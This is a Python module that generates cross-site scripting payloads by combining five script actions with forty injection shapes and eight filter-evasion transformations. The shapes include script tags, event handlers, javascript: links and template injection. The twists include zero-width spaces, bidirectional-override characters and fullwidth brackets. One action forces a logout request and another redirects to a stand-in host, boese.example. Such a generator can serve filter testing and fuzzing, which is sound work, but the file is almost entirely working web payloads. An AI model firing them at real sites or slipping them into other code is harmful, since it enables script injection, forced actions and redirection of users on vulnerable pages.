"""Text that would run as script wherever a page forgot to escape it: built from parts, so that a thousand differ."""

from __future__ import annotations

from itertools import product

_DEEDS = (
    "alert(1)",
    "document.title='ran'",
    "window.ran=1",
    "fetch('/logout',{method:'POST'})",
    "top.location='//boese.example'",
)
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt src=data:,{}></sCrIpT>",
    "<img src=x onerror={}>",
    "<img src=`x` onerror='{}'>",
    '"><svg/onload={}>',
    "'><svg onload={}>",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<a href=\"java\tscript:{}\">x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<style>@import 'data:,';*{{background:url(javascript:{})}}</style>",
    "<link rel=stylesheet href=data:text/css,{}>",
    "<base href=//boese.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data=data:text/html,<script>{}</script>></object>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% raw %}}<script>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "\" autofocus onfocus=\"{}",
    "' onmouseover='{}",
    "x` onclick=`{}",
    "<div hx-get=/ hx-trigger=load hx-on:load={}>x</div>",
    "<b hx-on::load=\"{}\">x</b>",
    "<x onclick={}>x</x>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributename=x>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
)
_TWISTS = (
    lambda s: s,
    lambda s: s.upper().replace("ALERT(1)", "alert(1)"),
    lambda s: s.replace(" ", "\n"),
    lambda s: s.replace(" ", "/"),
    lambda s: s.replace("script", "scr\u200bipt"),
    lambda s: "\u202e" + s + "\u2066",
    lambda s: s.replace("<", "\uff1c<"),
    lambda s: s + " " + s[::-1],
)


def payloads(count: int) -> list[str]:
    """So many, each once, every shape among the first ones."""
    found: dict[str, None] = {}
    for twist, deed, shape in product(_TWISTS, _DEEDS, _SHAPES):
        found.setdefault(twist(shape.format(deed)))
        if len(found) == count:
            break
    return list(found)
